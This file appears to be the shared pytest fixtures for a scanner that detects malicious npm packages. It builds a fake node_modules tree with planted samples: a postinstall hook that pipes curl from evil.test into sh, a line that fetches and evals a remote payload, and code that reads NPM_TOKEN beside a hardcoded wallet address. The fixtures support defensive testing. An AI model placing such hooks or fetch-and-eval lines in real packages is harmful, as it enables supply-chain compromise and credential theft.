"""Shared test fixtures."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from glassworm.config import ScanConfig
from glassworm.scanner.indicators import Indicators, default_indicators

KNOWN_WALLET = "28PKnu7RzizxBzFPoLp69HLXp9bJL3JFtT2s5QzHsEA2"


@pytest.fixture
def indicators() -> Indicators:
    return default_indicators()


@pytest.fixture
def config() -> ScanConfig:
    return ScanConfig(concurrency=2, per_file_timeout_ms=5_000)


@pytest.fixture
def package_tree(tmp_path: Path) -> Path:
    """A small node_modules-like tree with one file per severity class."""
    root = tmp_path / "node_modules"
    evil = root / "evil-pkg"
    evil.mkdir(parents=True)
    (evil / "package.json").write_text(
        json.dumps(
            {
                "name": "evil-pkg",
                "scripts": {"postinstall": "curl http://evil.test/x | sh"},
                "bin": {"evil": "cli.js"},
            }
        )
    )
    (evil / "index.js").write_text(
        "const ip = '217.69.3.218';\n"
        "fetch('http://217.69.3.218/payload').then(r => r.text()).then(eval);\n"
    )
    (evil / "wallet.js").write_text(
        f"const target = '{KNOWN_WALLET}';\n"
        "const token = process.env.NPM_TOKEN;\n"
    )

    benign = root / "left-pad"
    benign.mkdir()
    (benign / "index.js").write_text(
        "module.exports = function leftPad(s, n) { return s.padStart(n); };\n"
    )
    (benign / "package.json").write_text(
        json.dumps({"name": "left-pad", "scripts": {"test": "node test.js"}})
    )
    (benign / "README.md").write_text("curl http://example.test | sh\n")

    ignored = root / "left-pad" / "dist"
    ignored.mkdir()
    (ignored / "bundle.js").write_text("eval(atob('x')); fetch('http://1.2.3.4');\n")
    return root
